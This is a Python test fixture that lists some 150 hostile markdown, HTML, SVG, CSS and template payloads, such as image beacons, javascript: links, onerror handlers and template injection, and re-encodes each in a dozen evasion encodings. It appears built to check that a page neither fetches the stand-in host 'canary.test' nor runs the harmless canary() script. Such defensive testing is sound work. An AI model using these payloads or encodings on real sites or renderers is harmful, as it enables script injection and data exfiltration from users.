"""What hostile text looks like: ways to make a page fetch an address or run a script, and ways to write them down.

Every address is on `canary.test` or holds the word; every script calls `canary()`. Who watches is in `watching.py`.
"""

import html
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass

HOST = "canary.test"
_URL = f"http://{HOST}"
_SPECIAL = re.compile(r"[^A-Za-z0-9 \n]")
_ZERO_WIDTH = "\u200b"

MARKDOWN = (
    f"![a]({_URL}/1.png?q=secret)",
    f"![a](//{HOST}/2.png)",
    f"![a](<{_URL}/3.png> 'title')",
    f"![a][ref]\n\n[ref]: {_URL}/4.png",
    f"![ref]\n\n[ref]: <{_URL}/5.png> 'title'",
    f"![a]( {_URL}/6.png\t)",
    f"![![a]({_URL}/7.png)]({_URL}/7b.png)",
    f"[![a]({_URL}/8.png)](https://{HOST}/8)",
    "![a](/v1/session?canary=9)",
    "![a](/favicon.svg?canary=10)",
    f"![a](http:\\\\{HOST}\\11.png)",
    f"![a](https:/\\{HOST}/12.png)",
    f"![a](http://user:secret@{HOST}/13.png)",
    f"![a](ftp://{HOST}/14.png)",
    f"![a](http://secret.words.{HOST}/15.png)",
    "![a](http://canary\u3002test/16.png)",
    "![a](http://\u24d2anary.test/17.png)",
    f"[a]({_URL}/18)",
    f"[a][r]\n\n[r]: {_URL}/19",
    f"<{_URL}/20>",
    f"{_URL}/21?q=secret",
    f"www.{HOST}/22",
    f"<mailto:secret@{HOST}>",
    "[a](javascript:canary())",
    "[a](JaVaScRiPt:canary())",
    "[a](java\tscript:canary())",
    "[a](\x01javascript:canary())",
    "[a](javascript&colon;canary())",
    "[a](&#x6A;avascript:canary())",
    "[a](javascript://%0acanary())",
    "[a](vbscript:canary())",
    "[a](data:text/html,<script>canary()</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)",
    "[a](view-source:javascript:canary())",
    "[a](blob:http://canary.test/33)",
    "<javascript:canary()>",
    f"[^1]\n\n[^1]: ![a]({_URL}/34.png)",
    f"| a | b |\n|---|---|\n| ![a]({_URL}/35.png) | <img src={_URL}/35b.png> |",
    f"# ![a]({_URL}/36.png)",
    f"- **![a]({_URL}/37.png)** `<img src={_URL}/37b.png>`",
    f"```html\n<img src={_URL}/38.png onerror=canary()>\n```",
    f'```mermaid\ngraph TD; A-->B; click A href "{_URL}/39"\n```',
    f"$$\\includegraphics{{{_URL}/40.png}} \\href{{javascript:canary()}}{{x}}$$",
    f'[a](x "onmouseover=canary() {_URL}/41")',
)
MARKUP = (
    "<script>canary()</script>",
    f"<script src={_URL}/51.js></script>",
    "<img src=x onerror=canary()>",
    f"<img src={_URL}/53.png>",
    f"<img srcset='{_URL}/54.png 1x'>",
    f"<picture><source srcset={_URL}/55.png><img></picture>",
    "<svg onload=canary()>",
    f"<svg><image href={_URL}/57.png /></svg>",
    f"<svg><use href={_URL}/58.svg#a></use></svg>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:canary()><text>a</text></a></svg>",
    "<math><mi xlink:href=javascript:canary()>a</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    f"<style>@import url({_URL}/64.css);</style>",
    f"<style>*{{background:url({_URL}/65.png)}}</style>",
    f"<p style=\"background:url('{_URL}/66.png')\">a</p>",
    f"<link rel=stylesheet href={_URL}/67.css>",
    f"<link rel=prefetch href={_URL}/68>",
    f"<link rel=dns-prefetch href=//secret.{HOST}>",
    f"<link rel=preconnect href={_URL}>",
    f"<meta http-equiv=refresh content='0;url={_URL}/71'>",
    f"<base href={_URL}/72/>",
    f"<iframe src={_URL}/73></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src=javascript:parent.canary()></iframe>",
    f"<object data={_URL}/76></object>",
    f"<embed src={_URL}/77>",
    f"<form action={_URL}/78><input name=a><button autofocus>a</button></form>",
    "<input autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>",
    f"<video poster={_URL}/81.png autoplay><source src={_URL}/81.mp4></video>",
    "<audio src=x onerror=canary()>",
    f"<body background={_URL}/83.png onload=canary()>",
    f"<table background={_URL}/84.png><td>a</td></table>",
    f"<a href={_URL}/85 ping={_URL}/85b>a</a>",
    "<a href='java&#10;script:canary()'>a</a>",
    "<marquee onstart=canary()>a</marquee>",
    "<x onclick=canary() tabindex=1 id=x autofocus onfocus=canary()>",
    "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "</span></p></div><script>canary()</script>",
    "'\"--></style></script><svg/onload=canary()>",
    "<img/src='x'/onerror=canary()//",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<%00script>canary()</script>",
    "\u202e<tpircs/>)(yranac<tpircs>",
    f"<?xml-stylesheet href='{_URL}/97.xsl'?>",
    f"<!ENTITY a SYSTEM '{_URL}/98'>&a;",
)
TEMPLATES = (
    "{{constructor.constructor('canary()')()}}",
    "${canary()}",
    "#{canary()}",
    "<%= canary() %>",
    "`${canary()}`",
    "{% include '//canary.test/104' %}",
    "__proto__[dangerouslySetInnerHTML][__html]=<img src=x onerror=canary()>",
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=canary()>"}}',
    'data: {}\n\nevent: answer.completed\ndata: {"answer":"<img src=x onerror=canary()>"}',
    "\x1b]8;;http://canary.test/109\x07a\x1b]8;;\x07",
)
SPELLINGS: Sequence[str] = (*MARKDOWN, *MARKUP, *TEMPLATES)


def _each(write: Callable[[str], str]) -> Callable[[str], str]:
    """Write down the characters that mean something, and those of the words that browsers look for."""
    return lambda text: _SPECIAL.sub(lambda found: write(found[0]), text)


def _percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def _units(text: str, form: str) -> str:
    raw = text.encode("utf-16-be")
    return "".join(form.format(int.from_bytes(raw[at : at + 2], "big")) for at in range(0, len(raw), 2))


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


ENCODINGS: Mapping[str, Callable[[str], str]] = {
    "raw": str,
    "entities": _each(lambda c: f"&#{ord(c)};"),
    "hex-entities": _each(lambda c: f"&#x{ord(c):06X}"),
    "named-entities": lambda text: (
        html.escape(text).replace(":", "&colon;").replace("(", "&lpar;").replace("/", "&sol;")
    ),
    "percent": _each(_percent),
    "percent-twice": _each(lambda c: _percent(c).replace("%", "%25")),
    "unicode-escapes": _each(lambda c: _units(c, "\\u{:04x}")),
    "css-escapes": _each(lambda c: f"\\{ord(c):x} "),
    "full-width": _full_width,
    "zero-width": lambda text: re.sub(r"(?<=\w)(?=\w)", _ZERO_WIDTH, text),
    "backslashes": _each(lambda c: "\\" + c),
    "upper": str.upper,
}


@dataclass(frozen=True, slots=True)
class Hostile:
    """A spelling in one encoding, behind a word by which it is known again on the page."""

    id: str
    encoding: str
    body: str

    @property
    def text(self) -> str:
        """The word and the spelling."""
        return f"{self.id} {self.body}"

    @property
    def line(self) -> str:
        """The same on one line, as a name is."""
        return " ".join(self.text.split())


def hostile(encoding: str) -> list[Hostile]:
    """Return every spelling in an encoding."""
    write, mark = ENCODINGS[encoding], "abcdefghijklmnop"[list(ENCODINGS).index(encoding)]
    return [Hostile(f"q{number:03d}{mark}", encoding, write(each)) for number, each in enumerate(SPELLINGS)]


ALL: Sequence[Hostile] = [each for encoding in ENCODINGS for each in hostile(encoding)]


def packed(items: Sequence[Hostile], most_chars: int) -> list[str]:
    """Return lines of at most so many characters that hold all items, but for those that are longer by themselves."""
    lines: list[str] = []
    for each in items:
        if len(each.line) > most_chars:
            continue
        if lines and len(lines[-1]) + 1 + len(each.line) <= most_chars:
            lines[-1] += " " + each.line
        else:
            lines.append(each.line)
    return lines
